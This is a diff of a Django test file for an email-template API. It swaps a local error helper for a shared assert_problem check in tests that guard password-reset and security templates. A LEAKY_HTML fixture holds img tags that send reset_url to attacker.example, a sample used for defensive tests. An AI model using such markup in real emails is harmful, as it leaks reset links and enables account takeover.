@@ -18,7 +18,7 @@ from email_app import services
 from email_app.models import EmailSend, EmailTemplate
 from permissions_app.services import permission_cache_refresh
 from platform_app.flows import password_reset_request, user_onboard
-from tests.support import api_client
+from tests.support import api_client, assert_problem
 
 pytestmark = pytest.mark.django_db
 
@@ -32,11 +32,6 @@ LEAKY_HTML = (
     '<img src="https://attacker.example/?{{ reset_url|urlencode }}">'
     '<img src="https://attacker.example/?u={{ reset_url }}">'
 )
-
-
-def problem(response) -> dict:
-    assert response["Content-Type"] == "application/problem+json", response.content
-    return response.json()
 
 
 def reset_send(email: str = "ada@example.com") -> tuple[EmailSend, str]:
@@ -189,8 +184,7 @@ class TestSavingATemplateThatMovesTheLinkIsRefused:
             f"/api/v1/email/templates/{template.pk}", changes, format="json"
         )
 
-        assert response.status_code == 400, response.content
-        assert "reset_url" in str(problem(response)["errors"])
+        assert "reset_url" in str(assert_problem(response, 400, "validation_error")["errors"])
         template.refresh_from_db()
         assert template.version == 2  # 1, and the greeting migration
 
@@ -236,8 +230,7 @@ class TestSecurityTemplatesAreForSuperusers:
             f"/api/v1/email/templates/{template.pk}", {"subject": "Hi"}, format="json"
         )
 
-        assert response.status_code == 403
-        assert problem(response)["code"] == "template_reserved"
+        assert_problem(response, 403, "template_reserved")
         template.refresh_from_db()
         assert template.subject != "Hi"
 
@@ -311,8 +304,7 @@ class TestEmailSendCannotSendSecurityTemplates:
             format="json",
         )
 
-        assert response.status_code == 403
-        assert problem(response)["code"] == "template_reserved"
+        assert_problem(response, 403, "template_reserved")
         assert EmailSend.objects.count() == before
 
     def test_nor_resend_one_from_the_admin(self, admin_client):
